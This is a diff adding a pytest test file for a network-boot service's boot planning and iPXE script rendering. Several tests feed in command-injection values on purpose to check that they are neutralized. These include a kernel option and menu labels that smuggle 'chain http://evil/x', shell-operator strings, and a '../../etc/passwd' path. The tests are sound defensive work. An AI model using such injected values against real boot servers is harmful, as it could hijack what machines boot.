@@ -1,0 +1,356 @@
+"""The boot plan: what a machine boots, decided without sockets, and its renderings."""
+
+import re
+from pathlib import Path
+
+import pytest
+
+from boottorrentd.bootplan import (
+    BootPlan,
+    MenuItem,
+    boot_json,
+    ipxe_text,
+    normalize_mac,
+    plan_boot,
+    render_chain,
+    render_ipxe,
+)
+from boottorrentd.config import Aria2Section, BootSection, ClientSection, Config, TrackerSection
+from boottorrentd.library import OSEntry
+from boottorrentd.osspec import OSSpec
+from boottorrentd.torrent import TorrentFile, TorrentInfo
+
+MAC = "52:54:00:12:34:56"
+OTHER = "52:54:00:ab:cd:ef"
+SERVER = "192.168.1.1:8080"
+# name -> dispname, in library order
+OSS = {"debian12": "Debian 12", "freedos": "FreeDOS", "memtest": "Memtest86+"}
+
+
+def cfg(**boot: object) -> Config:
+    return Config(boottorrent=BootSection(**boot))  # type: ignore[arg-type]
+
+
+def plan(*, assignments: dict[str, str] | None = None, oss: dict[str, str] | None = None,
+         mac: str = MAC, **boot: object) -> BootPlan:
+    return plan_boot(mac, OSS if oss is None else oss, assignments or {}, cfg(**boot))
+
+
+def script(p: BootPlan, **kw: object) -> str:
+    return render_ipxe(p, server=SERVER, phase1_ready=kw.pop("phase1_ready", True), **kw)  # type: ignore[arg-type]
+
+
+def commands(text: str) -> list[str]:
+    """The script's lines minus comments, as iPXE would run them."""
+    return [line for line in text.splitlines() if line and not line.startswith("#")]
+
+
+# --- MAC addresses ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text", [
+    "52:54:00:12:34:56", "52-54-00-12-34-56", "525400123456",
+])
+def test_mac_addresses_normalize_to_lower_case_colons(text):
+    assert normalize_mac(text) == MAC
+
+
+def test_normalize_mac_lowercases_hex_letters():
+    assert normalize_mac("AA-BB-CC-DD-EE-FF") == "aa:bb:cc:dd:ee:ff"
+
+
+@pytest.mark.parametrize("text", [
+    "", "52:54:00:12:34", "52:54:00:12:34:56:78", "52:54-00:12:34:56", "52.54.00.12.34.56",
+    "5254001234567", "52:54:00:12:34:5g", " 52:54:00:12:34:56", "52:54:00:12:34:56\n",
+    "${net0/mac}", "../../etc/passwd", 525400123456,
+])
+def test_anything_else_is_not_a_mac(text):
+    with pytest.raises(ValueError, match="not a MAC address"):
+        normalize_mac(text)
+
+
+# --- the rules -------------------------------------------------------------------------------
+
+
+def test_an_assigned_machine_boots_its_os_directly_whatever_the_menu_says():
+    p = plan(assignments={MAC: "freedos"}, timeout=30, default_os="debian12")
+
+    assert (p.kind, p.os, p.default) == ("direct", "freedos", "freedos")
+    assert p.items == (MenuItem("freedos", "FreeDOS"),)
+    assert "assigned" in p.reason
+
+
+def test_an_assignment_is_looked_up_by_the_normalized_mac():
+    p = plan(mac="52-54-00-12-34-56", assignments={MAC: "memtest"})
+
+    assert (p.mac, p.kind, p.os) == (MAC, "direct", "memtest")
+
+
+def test_another_machines_assignment_does_not_apply():
+    p = plan(assignments={OTHER: "freedos"}, timeout=30, default_os="debian12")
+
+    assert p.kind == "menu"
+
+
+def test_an_assignment_to_an_os_no_longer_in_the_library_falls_back_to_the_menu():
+    p = plan(assignments={MAC: "gone"}, timeout=30, default_os="debian12")
+
+    assert p.kind == "menu"
+    assert "gone is not in the library" in p.reason
+
+
+def test_a_positive_timeout_shows_the_menu_then_boots_the_default():
+    p = plan(timeout=30, default_os="freedos")
+
+    assert p == BootPlan(
+        mac=MAC, kind="menu",
+        items=(MenuItem("debian12", "Debian 12"), MenuItem("freedos", "FreeDOS"),
+               MenuItem("memtest", "Memtest86+")),
+        default="freedos", timeout=30, os=None, reason=p.reason,
+    )
+
+
+def test_timeout_zero_boots_the_default_at_once():
+    p = plan(timeout=0, default_os="freedos")
+
+    assert (p.kind, p.os, p.default) == ("direct", "freedos", "freedos")
+    assert "timeout is 0" in p.reason
+
+
+def test_a_negative_timeout_waits_forever_with_the_default_preselected():
+    p = plan(timeout=-1, default_os="freedos")
+
+    assert (p.kind, p.default, p.timeout, p.os) == ("menu", "freedos", -1, None)
+
+
+def test_a_negative_timeout_needs_no_default():
+    p = plan(timeout=-5)
+
+    assert (p.kind, p.default) == ("menu", None)
+    assert "first shown" not in p.reason
+
+
+def test_display_oss_chooses_and_orders_the_menu_skipping_names_not_in_the_library():
+    p = plan(timeout=10, display_oss=("memtest", "windows", "debian12"), default_os="debian12")
+
+    assert [item.name for item in p.items] == ["memtest", "debian12"]
+    assert "windows" in p.reason
+
+
+def test_every_library_os_shows_in_library_order_when_display_oss_is_unset():
+    oss = {"zeta": "Zeta", "alpha": "Alpha"}
+    p = plan(oss=oss, timeout=10, default_os="alpha")
+
+    assert [item.name for item in p.items] == ["zeta", "alpha"]
+
+
+@pytest.mark.parametrize(("boot", "why"), [
+    ({}, "default_os is not set"),
+    ({"default_os": "gone"}, "default_os gone is not in the library"),
+])
+def test_without_a_usable_default_the_first_shown_os_is_the_default(boot, why):
+    p = plan(timeout=10, display_oss=("freedos", "debian12"), **boot)
+
+    assert (p.kind, p.default) == ("menu", "freedos")
+    assert why in p.reason
+    assert "first shown OS, freedos" in p.reason
+
+
+def test_a_default_that_is_not_shown_falls_back_too():
+    # The config refuses this combination, but a plan must not depend on that.
+    p = plan(timeout=0, display_oss=("freedos",), default_os="debian12")
+
+    assert (p.kind, p.os) == ("direct", "freedos")
+    assert "default_os debian12 is not shown" in p.reason
+
+
+def test_timeout_zero_without_a_default_boots_the_first_shown_os():
+    p = plan(timeout=0, display_oss=("memtest", "freedos"))
+
+    assert (p.kind, p.os) == ("direct", "memtest")
+    assert "first shown OS, memtest" in p.reason
+
+
+def test_an_empty_library_plans_nothing_and_says_how_to_add_an_os():
+    p = plan(oss={}, timeout=10)
+
+    assert (p.kind, p.items, p.os, p.default) == ("none", (), None, None)
+    assert "boottorrentctl add-os" in p.reason
+
+
+def test_display_oss_naming_only_absent_oses_plans_nothing():
+    p = plan(timeout=10, display_oss=("windows", "macos"))
+
+    assert p.kind == "none"
+    assert "windows, macos" in p.reason
+
+
+def test_a_bad_mac_is_refused():
+    with pytest.raises(ValueError):
+        plan(mac="not-a-mac")
+
+
+# --- iPXE scripts ----------------------------------------------------------------------------
+
+
+def test_the_chain_script_fetches_the_machines_own_script_by_mac():
+    text = render_chain(SERVER)
+
+    assert text.startswith("#!ipxe\n")
+    assert commands(text) == [f"chain http://{SERVER}/boot/${{net0/mac}}.ipxe"]
+
+
+def test_a_menu_lists_the_items_and_times_out_in_milliseconds():
+    text = script(plan(timeout=30, default_os="freedos"))
+    lines = commands(text)
+
+    assert text.startswith("#!ipxe\n")
+    assert "item debian12 Debian 12" in lines
+    assert "item freedos FreeDOS" in lines
+    assert "item memtest Memtest86+" in lines
+    choose = next(line for line in lines if line.startswith("choose "))
+    assert "--timeout 30000" in choose
+    assert "--default freedos" in choose
+    assert "target && goto ${target}" in choose
+    # Every item has its label to go to.
+    for name in OSS:
+        assert f":{name}" in lines
+
+
+def test_a_menu_that_waits_forever_has_no_timeout():
+    lines = commands(script(plan(timeout=-1, default_os="freedos")))
+    choose = next(line for line in lines if line.startswith("choose "))
+
+    assert "--timeout" not in choose
+    assert "--default freedos" in choose
+
+
+def test_a_menu_without_default_has_no_default_option():
+    lines = commands(script(plan(timeout=-1)))
+    choose = next(line for line in lines if line.startswith("choose "))
+
+    assert "--default" not in choose
+
+
+def test_a_direct_boot_loads_phase1_with_the_os_on_the_kernel_command_line():
+    lines = commands(script(plan(assignments={MAC: "freedos"}), cmdline_extra="console=ttyS0"))
+
+    assert not any(line.startswith(("menu", "item", "choose")) for line in lines)
+    kernel = next(line for line in lines if line.startswith("kernel "))
+    assert kernel.startswith(f"kernel http://{SERVER}/phase1/vmlinuz initrd=initrd.img "
+                             f"boottorrent.server={SERVER} boottorrent.os=freedos "
+                             "boottorrent.mac=${net0/mac} console=ttyS0")
+    assert any(line.startswith(f"initrd http://{SERVER}/phase1/initrd.img") for line in lines)
+    assert any(line.startswith("boot") for line in lines)
+    # Loading comes before anything that would drop to a shell or exit.
+    assert lines.index(kernel) < min(i for i, line in enumerate(lines) if line == "exit")
+
+
+def test_extra_cmdline_cannot_inject_commands():
+    text = script(plan(timeout=0, default_os="debian12"),
+                  cmdline_extra="quiet\nchain http://evil/x\r")
+
+    assert not any(line.startswith("chain") for line in text.splitlines())
+    assert "boottorrent.mac=${net0/mac} quiet chain http://evil/x ||" in text
+
+
+def test_without_the_phase1_image_the_script_says_how_to_build_it_and_exits():
+    lines = commands(script(plan(timeout=30, default_os="freedos"), phase1_ready=False))
+
+    assert any("not built" in line for line in lines)
+    assert any("boottorrentctl build-client" in line for line in lines)
+    assert any(line.startswith("sleep ") for line in lines)
+    assert lines[-1] == "exit"
+    assert not any(line.startswith(("kernel", "menu", "choose")) for line in lines)
+
+
+def test_nothing_to_boot_prints_why_and_drops_to_the_shell_after_a_pause():
+    lines = commands(script(plan(oss={}, timeout=10)))
+
+    assert lines[0].startswith("echo ") and "library is empty" in lines[0]
+    assert lines[-1] == "shell"
+    assert lines[-2].startswith("sleep ")
+    assert not any(line.startswith("kernel") for line in lines)
+
+
+@pytest.mark.parametrize("label", [
+    "Evil\nchain http://evil/x",
+    "Debian ${net0/mac} ${unknown}",
+    "A #comment && reboot || shell ; reboot",
+    'Quote "this" \'and\' back\\slash',
+    "Tab\there\r\x1b[31mred",
+])
+def test_labels_cannot_break_the_script(label):
+    p = plan(oss={"debian12": label, "freedos": "FreeDOS"}, timeout=10, default_os="freedos")
+    lines = script(p).splitlines()
+
+    item = next(line for line in lines if line.startswith("item debian12 "))
+    text = item.removeprefix("item debian12 ")
+    assert re.fullmatch(r"[A-Za-z0-9 _.,:!?()\[\]+=@%*~<>/^-]+", text)
+    assert "${" not in text and "&&" not in text and "||" not in text
+    assert not any(line.startswith("chain") for line in lines)
+
+
+def test_labels_keep_their_readable_text():
+    assert ipxe_text("Debian 12 (Bookworm) ${x}") == "Debian 12 (Bookworm) x"
+    assert ipxe_text("Fedora \u00e9t\u00e9 / Caf\u00e9") == "Fedora ete / Cafe"
+    assert ipxe_text("${}") == ""
+
+
+def test_a_label_with_nothing_left_shows_the_os_name():
+    p = plan(oss={"debian12": "${}", "freedos": "FreeDOS"}, timeout=10)
+
+    assert "item debian12 debian12" in script(p).splitlines()
+
+
+def test_the_reason_in_the_script_cannot_inject_commands():
+    # display_oss names only need to be free of '/' and control characters.
+    p = plan(timeout=10, display_oss=("x${y}", "&&", "#z"))
+    lines = commands(script(p))
+
+    assert p.kind == "none"
+    assert all(line.startswith(("echo ", "sleep ", "shell")) for line in lines)
+    assert not any("${" in line or "&&" in line or ";" in line for line in lines)
+
+
+# --- boot.json -------------------------------------------------------------------------------
+
+
+def entry() -> OSEntry:
+    spec = OSSpec("Debian 12", "kexec",
+                  {"kernel": "vmlinuz", "initrd": "initrd.img", "cmdline": "quiet"})
+    info = TorrentInfo("debian12", "ab" * 20, 262144,
+                       (TorrentFile(("vmlinuz",), 1000), TorrentFile(("initrd.img",), 3000)))
+    return OSEntry("debian12", Path("/var/lib/boottorrent/oss/debian12"), False, spec,
+                   Path("/var/lib/boottorrent/torrents/debian12.torrent"), info)
+
+
+def test_boot_json_holds_what_phase1_needs():
+    config = Config(
+        boottorrent=BootSection(seed_time=45),
+        aria2=Aria2Section(bt_enable_lpd=True, console_log_level="warn"),
+        tracker=TrackerSection(announce_interval=20),
+        client=ClientSection(report_interval=2),
+    )
+
+    assert boot_json(entry(), config, server=SERVER) == {
+        "name": "debian12",
+        "dispname": "Debian 12",
+        "spec": {"method": "kexec", "dispname": "Debian 12", "kernel": "vmlinuz",
+                 "initrd": "initrd.img", "cmdline": "quiet"},
+        "infohash": "ab" * 20,
+        "size_bytes": 4000,
+        "torrent_url": f"http://{SERVER}/torrents/debian12.torrent",
+        "seed_time": 45,
+        "aria2": {
+            "bt-enable-lpd": "true",
+            "enable-peer-exchange": "true",
+            "enable-dht": "false",
+            "enable-dht6": "false",
+            "check-integrity": "true",
+            "console-log-level": "warn",
+            "bt-tracker-interval": "20",
+        },
+        "report_url": f"http://{SERVER}/api/v1/clients/{{mac}}/events",
+        "report_interval": 2,
+    }
